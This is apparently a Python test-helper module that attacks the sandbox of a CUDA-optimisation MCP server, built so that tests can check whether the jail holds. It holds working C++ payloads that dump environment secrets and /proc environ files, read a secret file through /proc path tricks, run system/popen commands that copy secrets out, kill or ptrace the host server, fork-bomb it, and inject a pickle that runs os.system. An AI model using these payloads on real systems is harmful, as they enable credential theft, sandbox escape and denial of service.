"""Hostile candidates for the jail tests (test_jail_attacks.py, test_cli_jail.py), and the servers they attack.

A candidate author on the cpu backend writes native code: whatever sits behind ``#ifdef CUDAOPT_CPU_H``
(the cpu runtime header defines it; NVRTC never sees it) runs inside the worker. The kernels here carry a
*payload* in that branch: it runs once (at load time or inside the kernel), writes what it learns into a
leak buffer, and the kernel copies the buffer into its output (so it lands in the kept ``.npy`` files and
the mismatch report), to stderr (the server's log) and to stdout (kernel printf). Every payload starts with
``JX-BEGIN`` and ends with ``JX-END``: a test first checks that the payload really ran, then that nothing it
should not reach shows up anywhere.

The secrets: a random token in a file the host can read, ``CUDAOPT_MCP_TOKEN`` and ``OPENAI_API_KEY`` in
the server's environment. Only loopback addresses are ever dialled.
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import secrets as _random
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

ROOT = Path(__file__).resolve().parents[2]
N = 8192  # elements of the jailbox task's buffers: a 32 KiB leak fits in its output
CASE = f"val_{N}"
LEAK_BYTES = 4 * N


# ------------------------------------------------------------------------------------------------ secrets

class Hole(AssertionError):
    """The assertion that shows a known hole (the xfail tests expect exactly this, nothing else)."""


def hole(condition: bool, message: str) -> None:
    if not condition:
        raise Hole(message)


@dataclass
class Secrets:
    folder: Path  # a host folder holding the secret file; nothing may appear here
    file: Path
    value: str
    mcp_token: str
    api_key: str

    def env(self) -> dict[str, str]:
        return {"CUDAOPT_MCP_TOKEN": self.mcp_token, "OPENAI_API_KEY": self.api_key}

    def values(self) -> dict[str, str]:
        return {"secret file": self.value, "CUDAOPT_MCP_TOKEN": self.mcp_token, "OPENAI_API_KEY": self.api_key}


def make_secrets(folder: Path) -> Secrets:
    folder.mkdir(parents=True, exist_ok=True)
    value = "jx-secret-" + _random.token_hex(16)
    file = folder / "secret.txt"
    file.write_text(value + "\n")
    return Secrets(folder=folder, file=file, value=value, mcp_token="jx-token-" + _random.token_hex(16),
                   api_key="sk-jx-" + _random.token_hex(20))


def _blobs(item) -> Iterable[bytes]:
    if item is None:
        return
    if isinstance(item, bytes):
        yield item
    elif isinstance(item, str):
        yield item.encode(errors="replace")
    elif isinstance(item, (list, tuple)):
        for x in item:
            yield from _blobs(x)
    else:
        yield json.dumps(item, default=str).encode()


def secret_hits(secrets: Secrets, *items, folders: Iterable[Path] = (), files: Iterable[Path] = ()) -> list[str]:
    """Where any secret value shows up: in ``items`` (responses, decoded outputs), in any file under
    ``folders`` (links followed) or in ``files``; also every symbolic link under ``folders``."""
    needles = {name: value.encode() for name, value in secrets.values().items()}
    hits = []
    for index, blob in enumerate(b for item in items for b in _blobs(item)):
        for name, needle in needles.items():
            if needle in blob:
                hits.append(f"{name} in response/output #{index}")
    paths = [Path(f) for f in files]
    for folder in folders:
        folder = Path(folder)
        if not folder.exists():
            continue
        for dirpath, dirnames, filenames in os.walk(folder):
            for name in dirnames + filenames:
                path = Path(dirpath) / name
                if path.is_symlink():
                    hits.append(f"symbolic link {path} -> {os.readlink(path)}")
            paths += [Path(dirpath) / n for n in filenames]
    for path in paths:
        if path == secrets.file:
            continue
        try:
            data = path.read_bytes()
        except OSError:
            continue
        for name, needle in needles.items():
            if needle in data:
                hits.append(f"{name} in file {path}")
    return hits


# ------------------------------------------------------------------------------------------------ tasks

JAILBOX_REFERENCE = '''"""jailbox: out = 2 * in."""

import numpy as np


def reference(inputs, sizes):
    return {"out": 2.0 * inputs["in"].astype(np.float64)}
'''

JAILBOX_BASELINE = """extern "C" __global__ void jailbox(const float* in, float* out, int n)
{
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = 2.0f * in[i];
}
"""

TWIN_N = (1 << 18) - 256  # just under 1 MiB per output file: read without mmap, copied in a few hundred µs
TWIN_CASE = f"val_{TWIN_N}"

TWIN_REFERENCE = '''"""jailtwin: a = 2 * in, b = 4 * in."""

import numpy as np


def reference(inputs, sizes):
    x = inputs["in"].astype(np.float64)
    return {"a": 2.0 * x, "b": 4.0 * x}
'''

TWIN_BASELINE = """extern "C" __global__ void jailtwin(const float* in, float* a, float* b, int n)
{
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) { a[i] = 2.0f * in[i]; b[i] = 4.0f * in[i]; }
}
"""


def _task(folder: Path, name: str, outputs: list[str], n: int, reference: str, baseline: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    params = [{"kind": "buffer", "name": "in", "dtype": "float32", "shape": ["n"], "role": "in",
               "init": {"dist": "uniform", "low": -1, "high": 1}}]
    params += [{"kind": "buffer", "name": o, "dtype": "float32", "shape": ["n"], "role": "out"} for o in outputs]
    params.append({"kind": "scalar", "name": "n", "dtype": "int32", "value": "n"})
    spec = {
        "name": name,
        "description": f"{name}: elementwise multiples of in, a target for the jail tests.",
        "kernel_name": name,
        "params": params,
        "sizes": ["n"],
        "cases": [{"name": f"val_{n}", "role": "validation", "sizes": {"n": n}}],
        "reference": {"kind": "numpy", "file": "reference.py", "function": "reference"},
        "tolerance": {"float32": {"atol": 0, "rtol": 0}},
        "baseline": {"source": "baseline.cu", "launch": {"grid": ["ceil_div(n, 256)"], "block": [256]}},
    }
    (folder / "task.json").write_text(json.dumps(spec, indent=1))
    (folder / "reference.py").write_text(reference)
    (folder / "baseline.cu").write_text(baseline)
    return folder


def jailbox_task(root: Path) -> Path:
    return _task(root / "jailbox", "jailbox", ["out"], N, JAILBOX_REFERENCE, JAILBOX_BASELINE)


def twin_task(root: Path) -> Path:
    return _task(root / "jailtwin", "jailtwin", ["a", "b"], TWIN_N, TWIN_REFERENCE, TWIN_BASELINE)


# ------------------------------------------------------------------------------------------------ payloads

def c_str(text: str) -> str:
    """A C string literal (ASCII paths and commands)."""
    return json.dumps(text)


def c_bytes(data: bytes) -> str:
    return "{" + ", ".join(str(b) for b in data) + "}"


PRELUDE = r"""
#ifdef CUDAOPT_CPU_H
extern "C" {
extern char** environ;
long read(int, void*, unsigned long);
long write(int, const void*, unsigned long);
int open(const char*, int, ...);
int close(int);
int fork(void);
void _exit(int);
unsigned int sleep(unsigned int);
int usleep(unsigned int);
int getpid(void);
int getppid(void);
int kill(int, int);
int socket(int, int, int);
int connect(int, const void*, unsigned int);
int symlink(const char*, const char*);
int link(const char*, const char*);
int unlink(const char*);
int mkdir(const char*, unsigned int);
long readlink(const char*, char*, unsigned long);
long ptrace(long, long, void*, void*);
int prctl(int, unsigned long, unsigned long, unsigned long, unsigned long);
int* __errno_location(void);
struct jx_dirent { unsigned long ino; long off; unsigned short reclen; unsigned char type; char name[256]; };
void* opendir(const char*);
jx_dirent* readdir(void*);
int closedir(void*);
int pthread_create(unsigned long*, const void*, void* (*)(void*), void*);
int inotify_init1(int);
int inotify_add_watch(int, const char*, unsigned int);
}
static unsigned char jx_buf[JX_CAP];
static unsigned long jx_len;
static void jx_put(const void* p, unsigned long n) {
    if (n > JX_CAP - jx_len) n = JX_CAP - jx_len;
    memcpy(jx_buf + jx_len, p, n);
    jx_len += n;
}
static void jx_puts(const char* s) { jx_put(s, strlen(s)); }
#define JX_PRINTF(...) do { char jx_t_[1024]; int jx_n_ = snprintf(jx_t_, sizeof jx_t_, __VA_ARGS__); \
    if (jx_n_ > 0) jx_put(jx_t_, jx_n_ < (int)sizeof jx_t_ ? jx_n_ : (int)sizeof jx_t_ - 1); } while (0)
static int jx_errno() { return *__errno_location(); }
static void jx_file(const char* path) {
    int fd = open(path, 0);
    if (fd < 0) { JX_PRINTF("F %s: errno %d\n", path, jx_errno()); return; }
    JX_PRINTF("F %s: opened\n", path);
    char b[4096];
    long n;
    unsigned long total = 0;
    while (total < 8192 && (n = read(fd, b, sizeof b)) > 0) { jx_put(b, n); total += n; }
    close(fd);
    jx_puts("\n");
}
static void jx_write(const char* path) {  /* create a new file */
    int fd = open(path, 01 | 0100 | 0200, 0644);  /* O_WRONLY | O_CREAT | O_EXCL */
    if (fd < 0) { JX_PRINTF("W %s: errno %d\n", path, jx_errno()); return; }
    long n = write(fd, "jx-pwned\n", 9);
    close(fd);
    JX_PRINTF("W %s: WROTE %ld\n", path, n);
}
static void jx_modify(const char* path) {  /* open an existing file for writing; write nothing */
    int fd = open(path, 01 | 02000);  /* O_WRONLY | O_APPEND */
    if (fd < 0) { JX_PRINTF("M %s: errno %d\n", path, jx_errno()); return; }
    close(fd);
    JX_PRINTF("M %s: OPENED FOR WRITING\n", path);
}
static void jx_ls(const char* path) {
    void* d = opendir(path);
    if (!d) { JX_PRINTF("L %s: errno %d\n", path, jx_errno()); return; }
    JX_PRINTF("L %s:", path);
    while (jx_dirent* e = readdir(d)) JX_PRINTF(" %s", e->name);
    closedir(d);
    jx_puts("\n");
}
static int jx_is_pid(const char* s) { if (!*s) return 0; for (; *s; ++s) if (*s < '0' || *s > '9') return 0; return 1; }
static void jx_cmdline(int pid, char* out, unsigned long size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    out[0] = 0;
    int fd = open(path, 0);
    if (fd < 0) return;
    long n = read(fd, out, size - 1);
    close(fd);
    if (n < 0) n = 0;
    for (long k = 0; k < n; ++k) if (out[k] == 0) out[k] = ' ';
    out[n] = 0;
}
static void jx_connect_inet(unsigned a, unsigned b, unsigned c, unsigned d, int port) {
    struct { unsigned short family, port; unsigned addr; unsigned char zero[8]; } sa;
    memset(&sa, 0, sizeof sa);
    sa.family = 2;
    sa.port = (unsigned short)(((port & 0xff) << 8) | ((port >> 8) & 0xff));
    sa.addr = a | (b << 8) | (c << 16) | (d << 24);
    int s = socket(2, 1, 0);
    int rc = connect(s, &sa, sizeof sa);
    JX_PRINTF("C %u.%u.%u.%u:%d rc=%d errno=%d\n", a, b, c, d, port, rc, rc ? jx_errno() : 0);
    if (rc == 0) write(s, "JX-CONNECTED\n", 13);
    close(s);
}
static void jx_connect_abstract(const char* name) {
    struct { unsigned short family; char path[108]; } sa;
    memset(&sa, 0, sizeof sa);
    sa.family = 1;
    strncpy(sa.path + 1, name, sizeof sa.path - 2);
    int s = socket(1, 1, 0);
    int rc = connect(s, &sa, (unsigned)(2 + 1 + strlen(name)));
    JX_PRINTF("U @%s rc=%d errno=%d\n", name, rc, rc ? jx_errno() : 0);
    if (rc == 0) write(s, "JX-CONNECTED\n", 13);
    close(s);
}
static int jx_answer_fd() {  /* the worker answers its parent on the fd named by its last argument */
    char cmd[4096];
    int fd = open("/proc/self/cmdline", 0);
    long n = fd < 0 ? 0 : read(fd, cmd, sizeof cmd - 1);
    if (fd >= 0) close(fd);
    if (n <= 0) return -1;
    cmd[n] = 0;
    long end = n;
    while (end > 0 && cmd[end - 1] == 0) --end;
    long start = end;
    while (start > 0 && cmd[start - 1] != 0) --start;
    return atoi(cmd + start);
}
static void jx_frame(const unsigned char* data, unsigned len, unsigned announced) {
    int fd = jx_answer_fd();
    unsigned char head[4] = {(unsigned char)(announced >> 24), (unsigned char)(announced >> 16),
                             (unsigned char)(announced >> 8), (unsigned char)announced};
    long a = write(fd, head, 4);
    long b = write(fd, data, len);
    JX_PRINTF("P frame on fd %d: %ld %ld\n", fd, a, b);
}
static void jx_payload();
static void jx_run() {
    jx_puts("JX-BEGIN\n");
    jx_payload();
    jx_puts("JX-END\n");
    /* the log gets what the payload learnt (its head and tail when long), kernel printf a line */
    if (jx_len <= 6144) fwrite(jx_buf, 1, jx_len, stderr);
    else { fwrite(jx_buf, 1, 4096, stderr); fputs("\n...\n", stderr); fwrite(jx_buf + jx_len - 2048, 1, 2048, stderr); }
    fflush(stderr);
    printf("JX-STDOUT %lu bytes learnt\n", jx_len);
    fflush(stdout);
}
#endif
"""

KERNEL = r"""
extern "C" __global__ void jailbox(const float* in, float* out, int n)
{
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i >= n) return;
    float v = 2.0f * in[i];
#ifdef CUDAOPT_CPU_H
JX_IN_KERNEL
    if (JX_TO_OUTPUT && (unsigned long)4 * i < jx_len) memcpy(&v, jx_buf + (unsigned long)4 * i, 4);
#endif
    out[i] = v;
}
"""


def kernel(payload: str, *, where: str = "static", to_output: bool = True, nonce: str | None = None,
           extra: str = "") -> str:
    """The jailbox kernel with ``payload`` (C++ statements) in its cpu-only branch.

    ``where``: ``static`` runs it when the worker loads the library, ``kernel`` inside the kernel (once,
    the first thread to get there; the others wait for it). ``to_output``: the leak replaces the first
    elements of ``out`` (the case then fails and its outputs are kept). ``extra``: more file-scope C++.
    """
    nonce = nonce or _random.token_hex(6)  # a fresh source: the kernel cache never hands back an old build
    in_kernel = "    static int jx_once = (jx_run(), 0);\n    (void)jx_once;" if where == "kernel" else ""
    body = KERNEL.replace("JX_IN_KERNEL", in_kernel).replace("JX_TO_OUTPUT", "1" if to_output else "0")
    cpu = (f"#ifdef CUDAOPT_CPU_H\n{extra}\nstatic void jx_payload() {{\n{payload}\n}}\n"
           + ("static int jx_init = (jx_run(), 0);\n" if where == "static" else "") + "#endif\n")
    return f"// jail attack {nonce}\n#define JX_CAP {LEAK_BYTES}\n" + PRELUDE + cpu + body


def read_files(paths: Iterable[str]) -> str:
    return "\n".join(f"    jx_file({c_str(p)});" for p in paths)


def secret_paths(secret: Path) -> list[str]:
    """The secret file by every name a jailed process might reach it by."""
    s = str(secret)
    return [s, f"/proc/1/root{s}", f"/proc/self/root{s}", f"/proc/2/root{s}", f"/proc/1/cwd/../../../../../..{s}",
            f"/proc/self/cwd/../../../../../../..{s}", f"/dev/fd/../../..{s}", f"//{s}", f"/./{s}"]


ENV_DUMP = r"""{
    const char* names[] = {"CUDAOPT_MCP_TOKEN", "OPENAI_API_KEY", "HOME", "PATH"};
    for (const char* name : names) { const char* v = getenv(name); JX_PRINTF("E %s=%s\n", name, v ? v : "(unset)"); }
    for (char** e = environ; *e; ++e) JX_PRINTF("ENV %s\n", *e);
    jx_file("/proc/self/environ");
    jx_file("/proc/1/environ");
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/environ", getppid());
    jx_file(path);
    void* d = opendir("/proc");
    while (jx_dirent* e = d ? readdir(d) : nullptr) {
        if (!jx_is_pid(e->name)) continue;
        snprintf(path, sizeof path, "/proc/%s/environ", e->name);
        jx_file(path);
    }
    if (d) closedir(d);
}
"""


def system_and_popen(secret: Path, host_out: list[Path]) -> str:
    cmd = "; ".join([f"cat {secret} > {host_out[0]} 2>/dev/null", f"env > {host_out[1]} 2>/dev/null",
                     f"cp {secret} {host_out[2]} 2>/dev/null", f"cat {secret}", "echo JX-SYSTEM-RAN", "id"])
    pop = f"cat {secret} 2>&1; echo JX-POPEN-RAN; env; ls -la / /tmp"
    return f"""{{
    int rc = system({c_str(cmd)});
    JX_PRINTF("S system rc=%d\\n", rc);
    FILE* p = popen({c_str(pop)}, "r");
    char b[1024];
    unsigned long n;
    while (p && (n = fread(b, 1, sizeof b, p)) > 0) jx_put(b, n);
    if (p) JX_PRINTF("S pclose=%d\\n", pclose(p)); else JX_PRINTF("S popen errno %d\\n", jx_errno());
}}
"""


def host_writes(new_files: Iterable[Path], existing: Iterable[Path]) -> str:
    lines = ["    {"] + [f"    jx_write({c_str(str(p))});" for p in new_files]
    lines += [f"    jx_modify({c_str(str(p))});" for p in existing]
    # inside the jail, its own scratch folder is writable: the positive control
    lines.append(r"""
    void* shm = opendir("/dev/shm");
    while (jx_dirent* e = shm ? readdir(shm) : nullptr) {
        if (strncmp(e->name, "cudaopt-inputs-", 15)) continue;
        char path[512];
        snprintf(path, sizeof path, "/dev/shm/%s/scratch/jx-inside-scratch", e->name);
        jx_write(path);
        unlink(path);
        snprintf(path, sizeof path, "/dev/shm/%s/inputs/jx-inside-inputs", e->name);
        jx_write(path);
        snprintf(path, sizeof path, "/dev/shm/%s/inputs", e->name);
        jx_ls(path);
    }
    if (shm) closedir(shm);
    jx_ls("/dev/shm");
    char maps[8192];
    int fd = open("/proc/self/maps", 0);
    long n = fd < 0 ? 0 : read(fd, maps, sizeof maps - 1);
    if (fd >= 0) close(fd);
    maps[n > 0 ? n : 0] = 0;
    for (char* line = strtok(maps, "\n"); line; line = strtok(nullptr, "\n")) {
        char* path = strchr(line, '/');
        if (path && (strstr(path, "/kernels/") || strstr(path, "libcudaopt_cpu"))) jx_modify(path);
    }
    }""")
    return "\n".join(lines)


def connects(port: int, abstract: str, extra_ports: Iterable[int] = ()) -> str:
    lines = [f"    jx_connect_inet(127, 0, 0, 1, {port});", f"    jx_connect_inet(127, 0, 0, 2, {port});",
             f"    jx_connect_abstract({c_str(abstract)});"]
    lines += [f"    jx_connect_inet(127, 0, 0, 1, {p});" for p in extra_ports]
    lines.append('    jx_file("/proc/net/tcp");\n    jx_ls("/sys/class/net");')
    return "\n".join(lines)


def kill_server(server_pid: int, needle: str) -> str:
    """List /proc; SIGKILL whatever names ``needle`` (this test's server: its results folder) in its command
    line, and the server's pid as the host numbers it."""
    return f"""{{
    JX_PRINTF("P self=%d parent=%d\\n", getpid(), getppid());
    void* d = opendir("/proc");
    while (jx_dirent* e = d ? readdir(d) : nullptr) {{
        if (!jx_is_pid(e->name)) continue;
        char cmd[512];
        int pid = atoi(e->name);
        jx_cmdline(pid, cmd, sizeof cmd);
        JX_PRINTF("P %d %s\\n", pid, cmd);
        if (pid != getpid() && strstr(cmd, {c_str(needle)}))
            JX_PRINTF("K %d rc=%d\\n", pid, kill(pid, 9));
    }}
    if (d) closedir(d);
    int rc = kill({server_pid}, 9);
    JX_PRINTF("K host pid {server_pid} rc=%d errno=%d\\n", rc, rc ? jx_errno() : 0);
    long t = ptrace(16, {server_pid}, nullptr, nullptr);
    JX_PRINTF("T attach host pid rc=%ld errno=%d\\n", t, t ? jx_errno() : 0);
    t = ptrace(0x4206, getppid(), nullptr, nullptr);  /* PTRACE_SEIZE: attaches without stopping it */
    JX_PRINTF("T seize parent rc=%ld errno=%d\\n", t, t ? jx_errno() : 0);
    if (t == 0) ptrace(17, getppid(), nullptr, nullptr);  /* PTRACE_DETACH */
}}
"""


def fork_bomb(comm: str, forks: int = 300, sleep_s: int = 5) -> str:
    """``forks`` children, each renamed ``comm`` (so the host can look for them) and sleeping ``sleep_s``."""
    return f"""{{
    int ok = 0, fail = 0, err = 0;
    for (int k = 0; k < {forks}; ++k) {{
        int p = fork();
        if (p == 0) {{ prctl(15, (unsigned long){c_str(comm)}, 0, 0, 0); sleep({sleep_s}); _exit(0); }}
        if (p > 0) ++ok; else {{ ++fail; err = jx_errno(); }}
    }}
    JX_PRINTF("FORK ok=%d fail=%d errno=%d\\n", ok, fail, err);
}}
"""


FREEZE_JAIL_INIT = r"""
    long t = ptrace(16, getppid(), nullptr, nullptr);  /* PTRACE_ATTACH: the jail's init (pid 1) stops */
    JX_PRINTF("T attach parent %d rc=%ld errno=%d\n", getppid(), t, t ? jx_errno() : 0);
"""


def pickle_command(command: str) -> bytes:
    """A pickle (protocol 0) whose loading runs ``command`` with os.system and gives ("bug", status)."""
    assert "\n" not in command and "\\" not in command
    return b"(Vbug\ncos\nsystem\n(V" + command.encode() + b"\ntRt."


def pickle_injection(command: str) -> str:
    data = pickle_command(command)
    return f"""
    static const unsigned char pickle[] = {c_bytes(data)};
    jx_frame(pickle, sizeof pickle, sizeof pickle);
"""


# ------------------------------------------------------------------------------------------------ processes

def proc_table() -> dict[int, tuple[int, str, int]]:
    """pid -> (ppid, state, start time) for every process visible here."""
    table = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
        except OSError:
            continue
        rest = stat[stat.rindex(")") + 2:].split()
        table[int(entry)] = (int(rest[1]), rest[0], int(rest[19]))
    return table


def descendants(pid: int) -> dict[int, int]:
    """pid -> start time of every living descendant of ``pid``."""
    table = proc_table()
    found: dict[int, int] = {}
    frontier = [pid]
    while frontier:
        parent = frontier.pop()
        for child, (ppid, state, start) in table.items():
            if ppid == parent and child not in found and state != "Z":
                found[child] = start
                frontier.append(child)
    return found


def alive(processes: dict[int, int]) -> dict[int, str]:
    """Those of ``processes`` (pid -> start time) still running (not reaped, not zombies): pid -> cmdline."""
    table = proc_table()
    left = {}
    for pid, start in processes.items():
        row = table.get(pid)
        if row and row[2] == start and row[1] != "Z":
            try:
                left[pid] = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                left[pid] = "?"
    return left


def with_comm(comm: str) -> list[int]:
    pids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if Path(f"/proc/{entry}/comm").read_text().strip() == comm[:15]:
                    state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
                    if state != "Z":
                        pids.append(int(entry))
            except OSError:
                pass
    return pids


def wait_gone(check, timeout_s: float):
    """Poll ``check()`` (a collection of what is left) until it is empty or ``timeout_s`` passed; the rest."""
    deadline = time.monotonic() + timeout_s
    left = check()
    while left and time.monotonic() < deadline:
        time.sleep(0.05)
        left = check()
    return left


def children_named(parent: int, needle: str) -> list[int]:
    out = []
    for pid, (ppid, state, _start) in proc_table().items():
        if ppid == parent and state != "Z":
            try:
                if needle in Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace"):
                    out.append(pid)
            except OSError:
                pass
    return out


@dataclass
class Listeners:
    """A TCP listener on the host's 127.0.0.1 and an abstract unix socket in the host's network namespace."""

    tcp: socket.socket
    unix: socket.socket
    abstract: str

    @property
    def port(self) -> int:
        return self.tcp.getsockname()[1]

    def connections(self) -> list[str]:
        got = []
        for name, sock in (("tcp", self.tcp), ("unix", self.unix)):
            try:
                conn, _ = sock.accept()
                got.append(f"{name}: {conn.recv(64)!r}")
                conn.close()
            except BlockingIOError:
                pass
        return got

    def close(self) -> None:
        self.tcp.close()
        self.unix.close()


def listeners() -> Listeners:
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    tcp.setblocking(False)
    abstract = "jx-" + _random.token_hex(8)
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind("\0" + abstract)
    unix.listen(8)
    unix.setblocking(False)
    return Listeners(tcp, unix, abstract)


# ------------------------------------------------------------------------------------------------ MCP sessions

@dataclass
class Attack:
    """One evaluate call and everything it produced that a client or the log can see."""

    result: dict
    texts: list[str]
    leak: bytes = b""
    outputs: dict[str, bytes] = field(default_factory=dict)

    @property
    def ran(self) -> bool:
        return b"JX-BEGIN" in self.leak and b"JX-END" in self.leak


def decode_npy(data: bytes) -> bytes:
    return np.load(io.BytesIO(data), allow_pickle=False).tobytes()


class Session:
    """An MCP client session held open in a blocking portal, so several tests share one server."""

    def __init__(self, portal, client, *, kind: str, results: Path, task: Path, stderr: Path | None,
                 server_pid: int | None, secrets: Secrets, twin: Path | None = None):
        self.portal, self.client, self.kind = portal, client, kind
        self.results, self.task, self.twin, self.stderr = results, task, twin, stderr
        self.server_pid, self.secrets = server_pid, secrets
        self.transcript: list[str] = []
        self.run_ids: dict[str, str] = {}
        self.port: int | None = None  # the HTTP server's

    def call(self, tool: str, wait_s: float = 120, **args):
        """Call ``tool`` with ``args``; TimeoutError when no answer came within ``wait_s``."""
        async def go():
            import anyio

            with anyio.fail_after(wait_s):
                return await self.client.call_tool(tool, args)

        result = self.portal.call(go)
        self.transcript.append(result.model_dump_json())
        return result

    def read(self, uri: str) -> bytes:
        result = self.portal.call(self.client.read_resource, uri)
        self.transcript.append(result.model_dump_json())
        content = result.contents[0]
        return base64.b64decode(content.blob) if getattr(content, "blob", None) else content.text.encode()

    def run_id(self, task: Path | None = None, fresh: bool = False) -> str:
        task = task or self.task
        if fresh or str(task) not in self.run_ids:
            created = self.call("create_run", task=str(task))
            assert not created.is_error, created.content
            self.run_ids[str(task)] = created.structured_content["run_id"]
        return self.run_ids[str(task)]

    def attack(self, source: str, run_id: str | None = None, timeout_s: float = 30, **args) -> Attack:
        """Evaluate ``source``; read back every artifact and kept output of the candidate."""
        run_id = run_id or self.run_id()
        result = self.call("evaluate", run_id=run_id, source=source, roles=["validation"], timeout_s=timeout_s, **args)
        out = result.structured_content or {}
        texts = [result.model_dump_json()]
        attack = Attack(result=out, texts=texts)
        cid = out.get("candidate_id")
        if cid:
            for artifact in ("kernel.cu", "compile.log", "evaluation.json", "candidate.json"):
                with contextlib.suppress(Exception):
                    texts.append(self.read(f"cudaopt://runs/{run_id}/candidates/{cid}/{artifact}").decode(errors="replace"))
            for case in out.get("outputs_kept") or []:
                for buffer in ("out", "a", "b"):
                    with contextlib.suppress(Exception):
                        raw = self.read(f"cudaopt://runs/{run_id}/candidates/{cid}/outputs/{case}/{buffer}")
                        attack.outputs[f"{case}/{buffer}"] = raw
                        if buffer == "out":
                            attack.leak += decode_npy(raw)
        for uri in (f"cudaopt://runs/{run_id}", f"cudaopt://runs/{run_id}/history", "cudaopt://runs"):
            with contextlib.suppress(Exception):
                texts.append(self.read(uri).decode(errors="replace"))
        return attack

    def hits(self, *items) -> list[str]:
        files = [self.stderr] if self.stderr else []
        return secret_hits(self.secrets, *self.transcript, *items, folders=[self.results, self.secrets.folder],
                           files=files)

    def stderr_text(self) -> str:
        return self.stderr.read_text(errors="replace") if self.stderr else ""

    def alive(self) -> bool:
        if self.server_pid is None:
            return True
        row = proc_table().get(self.server_pid)
        return row is not None and row[1] != "Z"

    def reset_worker(self) -> None:
        """End the worker (and any thread or child a payload left in it): the next call starts a fresh one."""
        self.attack(kernel("    fflush(stdout); fflush(stderr); _exit(0);"))


def server_args(results: Path, *extra: str) -> list[str]:
    return ["-m", "cudaopt_mcp.server", "--results", str(results), "--backend", "cpu", "-v", *extra]


def server_env(secrets: Secrets, **extra: str) -> dict[str, str]:
    return {**os.environ, **secrets.env(), "CUDAOPT_JAIL": "require", **extra}


@contextlib.contextmanager
def stdio_session(tmp: Path, secrets: Secrets, **env: str):
    """A real ``python -m cudaopt_mcp.server`` over stdio, its stderr in a file."""
    from anyio.from_thread import start_blocking_portal
    from mcp import Client, StdioServerParameters
    from mcp.client.stdio import stdio_client

    results, stderr = tmp / "results", tmp / "server-stderr.log"
    task, twin = jailbox_task(tmp / "tasks"), twin_task(tmp / "tasks")
    params = StdioServerParameters(command=sys.executable, args=server_args(results), env=server_env(secrets, **env),
                                   cwd=str(ROOT))
    with stderr.open("w") as errlog, start_blocking_portal() as portal, \
            portal.wrap_async_context_manager(Client(stdio_client(params, errlog=errlog))) as client:
        pids = [p for p in children_named(os.getpid(), "cudaopt_mcp.server") if str(results) in
                Path(f"/proc/{p}/cmdline").read_bytes().decode(errors="replace")]
        session = Session(portal, client, kind="stdio", results=results, task=task, twin=twin, stderr=stderr,
                          server_pid=pids[0] if pids else None, secrets=secrets)
        try:
            yield session
        finally:
            if session.server_pid and session.alive() and not _responsive(session):
                with contextlib.suppress(ProcessLookupError):
                    os.kill(session.server_pid, signal.SIGKILL)


def _responsive(session: Session) -> bool:
    try:
        session.call("list_tasks", wait_s=10)
        return True
    except Exception:  # noqa: BLE001 - any failure to answer means: kill it
        return False


@contextlib.contextmanager
def inprocess_session(tmp: Path, secrets: Secrets):
    """The server in this very process (the SDK's in-process transport); the secrets in our environment."""
    import pytest
    from anyio.from_thread import start_blocking_portal
    from mcp import Client

    from cudaopt_mcp.server.app import build_server
    from cudaopt_mcp.service.state import ServerConfig

    results = tmp / "results"
    task, twin = jailbox_task(tmp / "tasks"), twin_task(tmp / "tasks")
    with pytest.MonkeyPatch.context() as mp:
        for name, value in secrets.env().items():
            mp.setenv(name, value)
        server = build_server(ServerConfig(results_dir=results, backend="cpu", transport="inprocess"))
        with start_blocking_portal() as portal, portal.wrap_async_context_manager(Client(server)) as client:
            yield Session(portal, client, kind="inprocess", results=results, task=task, twin=twin, stderr=None,
                          server_pid=None, secrets=secrets)


class HttpServer:
    """``python -m cudaopt_mcp.server --transport http`` on 127.0.0.1 with a bearer token, stderr in a file."""

    def __init__(self, tmp: Path, secrets: Secrets, task_root: Path):
        self.port = _free_port()
        self.results, self.stderr = tmp / "results", tmp / "server-stderr.log"
        args = [sys.executable, *server_args(self.results, "--transport", "http", "--port", str(self.port),
                                             "--task-root", str(task_root))]
        self._err = self.stderr.open("w")
        self.proc = subprocess.Popen(args, env=server_env(secrets), cwd=ROOT, stdin=subprocess.DEVNULL,
                                     stdout=self._err, stderr=self._err, start_new_session=True)
        deadline = time.monotonic() + 60
        while True:
            if self.proc.poll() is not None:
                raise RuntimeError(f"server exited: {self.stderr.read_text()}")
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=0.5):
                    break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.2)
        self.url = f"http://127.0.0.1:{self.port}/mcp"

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                os.killpg(self.proc.pid, signal.SIGKILL)
                self.proc.wait(timeout=30)
        self._err.close()


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextlib.asynccontextmanager
async def _http_client(url: str, token: str):
    import httpx2
    from mcp import Client
    from mcp.client.streamable_http import streamable_http_client

    http = httpx2.AsyncClient(headers={"Authorization": f"Bearer {token}"}, timeout=httpx2.Timeout(30, read=300))
    async with http, Client(streamable_http_client(url, http_client=http)) as client:
        yield client


@contextlib.contextmanager
def http_session(tmp: Path, secrets: Secrets):
    from anyio.from_thread import start_blocking_portal

    tasks = tmp / "tasks"
    task, twin = jailbox_task(tasks), twin_task(tasks)
    server = HttpServer(tmp, secrets, tasks)
    try:
        with start_blocking_portal() as portal, \
                portal.wrap_async_context_manager(_http_client(server.url, secrets.mcp_token)) as client:
